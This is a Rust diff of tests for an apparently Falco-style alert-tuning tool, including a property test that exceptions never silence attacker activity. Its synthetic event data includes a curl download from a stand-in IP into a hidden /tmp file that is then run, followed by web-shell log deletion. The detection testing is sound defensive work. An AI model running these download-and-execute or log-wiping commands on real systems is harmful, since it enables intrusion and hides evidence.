@@ -1156,14 +1156,46 @@ mod tests {
         let rules = "- rule: Any\n  desc: d\n  condition: evt.type in (openat, connect, unlinkat)\n  output: o\n  priority: NOTICE\n";
         let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
         let cases: Vec<(Gen, &str, &str)> = vec![
-            (ladder("proc.name", &s(&["rm"]))[0].clone(), r#"{"proc.name":"rm"}"#, r#"{"proc.name":"rmdir"}"#),
-            (ladder("proc.name", &s(&["rm", "unlink"]))[0].clone(), r#"{"proc.name":"unlink"}"#, r#"{"proc.name":"ln"}"#),
-            (ladder("fd.name", &s(&["/srv/app/log/a.log"]))[1].clone(), r#"{"fd.name":"/srv/app/log/z.log"}"#, r#"{"fd.name":"/srv/app/logs/a.log"}"#),
-            (ladder("fd.name", &s(&["/srv/a/x/f", "/srv/b/y/f"]))[1].clone(), r#"{"fd.name":"/srv/b/y/other"}"#, r#"{"fd.name":"/srv/b/other"}"#),
-            (ladder("fd.name", &s(&["/srv/app/seg-0001.log"]))[1].clone(), r#"{"fd.name":"/srv/app/seg-0999.log"}"#, r#"{"fd.name":"/srv/app/seg-0001.txt"}"#),
-            (ladder("fd.sip", &s(&["10.0.3.7", "10.0.3.9"]))[1].clone(), r#"{"fd.sip":"10.0.3.200","fd.cip":"192.168.0.1"}"#, r#"{"fd.sip":"10.0.4.1","fd.cip":"10.0.3.5"}"#),
-            (ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]))[1].clone(), r#"{"k8s.pod.name":"web-5c4d7f9b8-qq2rt"}"#, r#"{"k8s.pod.name":"webhook-1"}"#),
-            (ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]))[1].clone(), r#"{"proc.cmdline":"kubectl rollout status deploy/api"}"#, r#"{"proc.cmdline":"kubectl exec -it web -- sh"}"#),
+            (
+                ladder("proc.name", &s(&["rm"]))[0].clone(),
+                r#"{"proc.name":"rm"}"#,
+                r#"{"proc.name":"rmdir"}"#,
+            ),
+            (
+                ladder("proc.name", &s(&["rm", "unlink"]))[0].clone(),
+                r#"{"proc.name":"unlink"}"#,
+                r#"{"proc.name":"ln"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/app/log/a.log"]))[1].clone(),
+                r#"{"fd.name":"/srv/app/log/z.log"}"#,
+                r#"{"fd.name":"/srv/app/logs/a.log"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/a/x/f", "/srv/b/y/f"]))[1].clone(),
+                r#"{"fd.name":"/srv/b/y/other"}"#,
+                r#"{"fd.name":"/srv/b/other"}"#,
+            ),
+            (
+                ladder("fd.name", &s(&["/srv/app/seg-0001.log"]))[1].clone(),
+                r#"{"fd.name":"/srv/app/seg-0999.log"}"#,
+                r#"{"fd.name":"/srv/app/seg-0001.txt"}"#,
+            ),
+            (
+                ladder("fd.sip", &s(&["10.0.3.7", "10.0.3.9"]))[1].clone(),
+                r#"{"fd.sip":"10.0.3.200","fd.cip":"192.168.0.1"}"#,
+                r#"{"fd.sip":"10.0.4.1","fd.cip":"10.0.3.5"}"#,
+            ),
+            (
+                ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]))[1].clone(),
+                r#"{"k8s.pod.name":"web-5c4d7f9b8-qq2rt"}"#,
+                r#"{"k8s.pod.name":"webhook-1"}"#,
+            ),
+            (
+                ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]))[1].clone(),
+                r#"{"proc.cmdline":"kubectl rollout status deploy/api"}"#,
+                r#"{"proc.cmdline":"kubectl exec -it web -- sh"}"#,
+            ),
         ];
         for (g, silenced, alerting) in cases {
             let ex = ExceptionSpec {
@@ -1176,15 +1208,26 @@ mod tests {
             let mut e = quell_rules::engine::Engine::new();
             assert!(e.load("r.yaml", rules).successful);
             let res = e.load("x.yaml", &block);
-            assert!(res.successful && res.warnings.is_empty(), "{block}: {:?} {:?}", res.errors, res.warnings);
+            assert!(
+                res.successful && res.warnings.is_empty(),
+                "{block}: {:?} {:?}",
+                res.errors,
+                res.warnings
+            );
             let r = e.rule("Any").unwrap();
             let ev = |j: &str| {
                 let mut v: serde_json::Value = serde_json::from_str(j).unwrap();
                 v["evt.type"] = "openat".into();
                 quell_events::FlatEvent::from_json_line(&v.to_string()).unwrap()
             };
-            assert!(!r.matches(&ev(silenced)), "{block} should silence {silenced}");
-            assert!(r.matches(&ev(alerting)), "{block} should not silence {alerting}");
+            assert!(
+                !r.matches(&ev(silenced)),
+                "{block} should silence {silenced}"
+            );
+            assert!(
+                r.matches(&ev(alerting)),
+                "{block} should not silence {alerting}"
+            );
         }
     }
 
@@ -1231,6 +1274,171 @@ mod tests {
                 "{}: {:?}",
                 c.yaml, c.verification.errors
             );
+        }
+    }
+}
+
+/// The property of issue 11: a printed exception never silences an event of its own keep
+/// set, nor a history alert that triage rates `likely_real` (other than the events a
+/// person put in the benign set themselves), whatever mix of operators' and attackers'
+/// actions the benign set, the keep set and the history hold.
+#[cfg(test)]
+mod property {
+    use proptest::prelude::*;
+    use quell_rules::engine::Engine;
+
+    use super::*;
+    use crate::catalogue::Catalogue;
+    use crate::history::History;
+    use crate::input::parse_records;
+    use crate::triage::{Lang, Triage, Verdict};
+    use crate::verify::RulesFile;
+
+    const RULES: &str = "- rule: Clear Log Activities\n  desc: d\n  condition: evt.type = unlinkat and fs.path.name startswith /var/log/\n  output: o %proc.name %fs.path.name %proc.cmdline\n  priority: WARNING\n";
+
+    /// One deletion of a log, by someone, in a session (`sid`); attackers' sessions first
+    /// download and run a payload.
+    #[derive(Clone, Debug)]
+    struct Del {
+        actor: &'static str,
+        parent: &'static str,
+        gparent: &'static str,
+        path: &'static str,
+        user: &'static str,
+        tty: i64,
+        attack: bool,
+    }
+
+    fn del() -> impl Strategy<Value = Del> {
+        (
+            prop::sample::select(vec!["rm", "logrotate", "python3", "find"]),
+            prop::sample::select(vec!["bash", "sh", "cron"]),
+            prop::sample::select(vec!["runc", "sshd", "httpd", "cron", "nginx"]),
+            prop::sample::select(vec![
+                "/var/log/dpkg.log",
+                "/var/log/app/web.1.log",
+                "/var/log/app/web.2.log",
+                "/var/log/auth.log",
+            ]),
+            prop::sample::select(vec!["root", "www-data"]),
+            prop::sample::select(vec![0i64, 34816]),
+            any::<bool>(),
+        )
+            .prop_map(|(actor, parent, gparent, path, user, tty, attack)| Del {
+                actor,
+                parent,
+                gparent,
+                path,
+                user,
+                tty,
+                attack,
+            })
+    }
+
+    fn lines(d: &Del, sid: usize) -> Vec<String> {
+        let exe = if d.actor == "logrotate" {
+            "/usr/sbin/logrotate".to_string()
+        } else {
+            format!("/usr/bin/{}", d.actor)
+        };
+        let cmd = match d.actor {
+            "python3" => format!("python3 /opt/jobs/clean.py {}", d.path),
+            "find" => format!(
+                "find /var/log -name {} -delete",
+                d.path.rsplit('/').next().unwrap_or("")
+            ),
+            a => format!("{a} {}", d.path),
+        };
+        let common = format!(
+            r#""proc.sid":{sid},"proc.tty":{},"user.name":"{}","container.id":"c{sid}","proc.pname":"{}","proc.aname[1]":"{}","proc.aname[2]":"{}""#,
+            d.tty, d.user, d.parent, d.parent, d.gparent
+        );
+        let mut out = Vec::new();
+        let t = 1_700_000_000_000_000_000u64 + (sid as u64) * 1_000_000_000;
+        if d.attack {
+            out.push(format!(
+                r#"{{"evt.type":"execve","evt.rawtime":{t},"proc.pid":{},"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s -o /tmp/.u http://203.0.113.7/p",{common}}}"#,
+                sid * 10
+            ));
+            out.push(format!(
+                r#"{{"evt.type":"execve","evt.rawtime":{},"proc.pid":{},"proc.name":".u","proc.exepath":"/tmp/.u","proc.cmdline":".u",{common}}}"#,
+                t + 1000,
+                sid * 10 + 1
+            ));
+        }
+        out.push(format!(
+            r#"{{"evt.type":"unlinkat","evt.rawtime":{},"proc.pid":{},"proc.name":"{}","proc.exepath":"{exe}","proc.cmdline":"{cmd}","fs.path.name":"{}",{common}}}"#,
+            t + 2000,
+            sid * 10 + 2,
+            d.actor,
+            d.path
+        ));
+        out
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 24, .. ProptestConfig::default() })]
+
+        #[test]
+        fn printed_exceptions_never_silence_keep_or_likely_real_history(
+            dels in proptest::collection::vec(del(), 2..7),
+            web_shell_path in prop::sample::select(vec!["/var/log/dpkg.log", "/var/log/app/web.1.log"]),
+            benign_pick in proptest::collection::vec(any::<bool>(), 7),
+            keep_pick in proptest::collection::vec(any::<bool>(), 7),
+        ) {
+            // Always one web shell deleting a log after a download: the history has
+            // something triage rates likely real.
+            let mut all = dels.clone();
+            all.push(Del { actor: "rm", parent: "sh", gparent: "httpd", path: web_shell_path, user: "www-data", tty: 0, attack: true });
+            let mut history_lines = Vec::new();
+            let mut benign_lines = Vec::new();
+            let mut keep_lines = Vec::new();
+            for (i, d) in all.iter().enumerate() {
+                let ls = lines(d, i + 1);
+                let deletion = ls.last().cloned().unwrap_or_default();
+                if !d.attack && benign_pick[i % 7] {
+                    benign_lines.push(deletion.clone());
+                } else if keep_pick[i % 7] && d.attack {
+                    keep_lines.push(deletion.clone());
+                }
+                history_lines.extend(ls);
+            }
+            prop_assume!(!benign_lines.is_empty());
+            let history = parse_records(&history_lines.join("\n"), "h").unwrap();
+            let benign = parse_records(&benign_lines.join("\n"), "b").unwrap();
+            let keep = parse_records(&keep_lines.join("\n"), "k").unwrap();
+            let rules = vec![RulesFile { name: "r.yaml".into(), text: RULES.into() }];
+            let vf = Verifier::new(&rules, "Clear Log Activities", &benign, &keep, &history).unwrap();
+            // Triage of the history, independently of the verifier.
+            let mut base = Engine::new();
+            base.load("r.yaml", RULES);
+            let cat = Catalogue::builtin();
+            let prior = History::empty();
+            let reports = Triage { engine: &base, catalogue: &cat, history: &prior, lang: Lang::En, hostname: "" }.run(&history);
+            let real: Vec<usize> = reports
+                .iter()
+                .filter(|r| r.rule == "Clear Log Activities" && r.verdict == Verdict::LikelyReal)
+                .flat_map(|r| r.members.iter().copied())
+                .filter(|&i| !benign.iter().any(|b| b.event == history[i].event))
+                .collect();
+            prop_assert!(!real.is_empty(), "the web shell's deletion is triaged likely real");
+            let Ok(p) = synthesize(&vf, &Options::default()) else {
+                return Ok(());
+            };
+            let mut tuned = Engine::new();
+            tuned.load("r.yaml", RULES);
+            let res = tuned.load("local.yaml", &p.best.yaml);
+            prop_assert!(res.successful, "{:?}", res.errors);
+            let rule = tuned.rule("Clear Log Activities").unwrap();
+            for &i in &real {
+                prop_assert!(rule.matches(&history[i].event), "silences likely-real history line {}:\n{}", i + 1, p.best.yaml);
+            }
+            for k in &keep {
+                prop_assert!(rule.matches(&k.event), "silences a keep event:\n{}", p.best.yaml);
+            }
+            for b in &benign {
+                prop_assert!(!rule.matches(&b.event), "leaves a benign event alerting:\n{}", p.best.yaml);
+            }
         }
     }
 }
